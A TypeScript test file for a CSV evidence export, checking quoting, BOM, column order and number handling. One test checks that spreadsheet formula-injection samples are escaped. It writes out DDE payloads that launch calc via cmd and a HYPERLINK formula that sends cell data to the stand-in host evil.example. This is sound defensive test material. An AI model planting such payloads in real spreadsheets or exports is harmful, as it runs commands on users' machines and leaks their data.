import { FORMULA_INJECTION_SAMPLES } from '@scorecard/shared';
import { describe, expect, test } from 'vitest';
import { evidenceCsv, toCsv, type EvidenceCsvRow } from './evidence-csv';

const LABELS = {
  record: '记录',
  kind: '类型',
  date: '日期',
  counted: '计入失分',
  reasonCode: '原因代码',
  reason: '原因',
};

describe('evidence CSV', () => {
  test('quotes commas, quotes and newlines; missing values are empty', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['x,y', 'say "hi"'],
          [null, 3],
          ['two\nlines', true],
        ],
      ),
    ).toBe('\uFEFFa,b\r\n"x,y","say ""hi"""\r\n,3\r\n"two\nlines",true\r\n');
  });

  test('BOM, header with field columns in first-seen order, one line per record', () => {
    const csv = evidenceCsv(
      [
        {
          recordId: 'r1',
          recordKind: 'demand',
          date: '2023-03-01',
          countedAgainst: true,
          reasonCode: 'evidence/demand-late',
          reason: '逾期, 3 天',
          fields: [{ name: 'due_on', value: '2023-02-26' }],
        },
        {
          recordId: 'r2',
          recordKind: 'demand',
          date: null,
          countedAgainst: false,
          reasonCode: 'evidence/demand-on-time',
          reason: '按期',
          fields: [
            { name: 'requester', value: 'X' },
            { name: 'due_on', value: null },
          ],
        },
      ],
      LABELS,
    );
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.slice(1).split('\r\n')).toEqual([
      '记录,类型,日期,计入失分,原因代码,原因,due_on,requester',
      'r1,demand,2023-03-01,1,evidence/demand-late,"逾期, 3 天",2023-02-26,',
      'r2,demand,,0,evidence/demand-on-time,按期,,X',
      '',
    ]);
  });

  test('no cell is a formula: imported text starting with = + - @ tab or CR is written as text', () => {
    const rows: EvidenceCsvRow[] = FORMULA_INJECTION_SAMPLES.map((text, i) => ({
      recordId: `INC-${i}`,
      recordKind: 'incident',
      date: '2023-03-01',
      countedAgainst: true,
      reasonCode: 'evidence/incident',
      reason: '安全事件',
      fields: [{ name: 'description', value: text }],
    }));
    // Each description cell, written out by hand: a leading apostrophe, then RFC 4180 quoting where needed.
    const cells = [
      `'=cmd|' /C calc'!A0`,
      `"'+1+cmd|"" /C calc""!A0"`,
      `"'-2+3+cmd|"" /C calc""!A0"`,
      `'@SUM(1+1)*cmd|' /C calc'!A0`,
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`,
      `'\t=1+1`,
      `"'\r=1+1"`,
    ];
    expect(cells).toHaveLength(FORMULA_INJECTION_SAMPLES.length);
    expect(evidenceCsv(rows, LABELS)).toBe(
      `\uFEFF记录,类型,日期,计入失分,原因代码,原因,description\r\n${cells
        .map((cell, i) => `INC-${i},incident,2023-03-01,1,evidence/incident,安全事件,${cell}\r\n`)
        .join('')}`,
    );
  });

  test('numbers stay numbers, negative ones too', () => {
    expect(toCsv(['v'], [[-3], [-0.25], [0], [1]])).toBe('\uFEFFv\r\n-3\r\n-0.25\r\n0\r\n1\r\n');
  });
});
